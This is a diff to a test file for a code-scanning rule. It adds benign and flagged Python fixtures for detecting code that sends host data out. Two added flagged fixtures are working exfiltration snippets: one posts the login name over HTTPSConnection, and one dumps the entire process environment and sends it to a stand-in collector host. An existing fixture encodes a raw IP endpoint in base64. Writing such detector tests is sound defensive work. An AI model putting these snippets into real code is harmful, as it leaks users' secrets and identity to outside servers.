@@ -8,6 +8,7 @@ ruleTest(rule, {
     { name: 'local dev server', file: 'app.py', code: `import requests\nr = requests.get("http://127.0.0.1:1245/api/health")\nr2 = requests.post("http://192.168.1.10:8000/x", json={"a": 1})\n` },
     { name: 'requests own code building a URL', file: 'requests/models.py', code: `from urllib.parse import urlencode\ndef prepare_url(self, url, params):\n    enc_params = self._encode_params(params)\n    self.url = url + "?" + enc_params\n` },
     { name: 'API client with documented host', file: 'client.py', code: `import httpx, os\nTOKEN = os.environ["API_TOKEN"]\nhttpx.get("https://api.github.com/user", headers={"Authorization": TOKEN})\n` },
+    { name: 'HTTPSConnection request with no host data', file: 'h.py', code: `from http.client import HTTPSConnection\nfrom os import getlogin\nprint(getlogin())\nconn = HTTPSConnection("api.example.org")\nconn.request("GET", "/status")\n` },
   ],
   flagged: [
     {
@@ -45,6 +46,18 @@ ruleTest(rule, {
       file: 'scanner.py',
       code: `import base64\nencode_data = "${Buffer.from('http://5.42.92.191:5000/post').toString('base64')}"\nurl = base64.b64decode(encode_data).decode()\n`,
       findings: [{ line: 2, confidence: 'high', decoded: 'http://5.42.92.191:5000/post' }],
+    },
+    {
+      name: 'login name posted through an HTTPSConnection object',
+      file: 'c.py',
+      code: `from http.client import HTTPSConnection\nfrom os import getlogin\nfrom json import dumps\ndef send(host, path, e):\n    body = {'n': getlogin(), 'e': e}\n    conn = HTTPSConnection(host, timeout=1)\n    conn.request('POST', path, dumps(body))\n`,
+      findings: [{ line: 7, message: /host identity \(getlogin\) to a remote server/, severity: 'high', confidence: 'medium' }],
+    },
+    {
+      name: 'the whole environment sent to a tunnel',
+      file: 'm.py',
+      code: `import os, json, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\nreq = urllib.request.Request("https://collector.example.org/x", data=data)\nurllib.request.urlopen(req)\n`,
+      findings: [{ line: 3, message: /host identity \(dict\(os\.environ\)\)/, severity: 'critical', confidence: 'high' }],
     },
   ],
 });
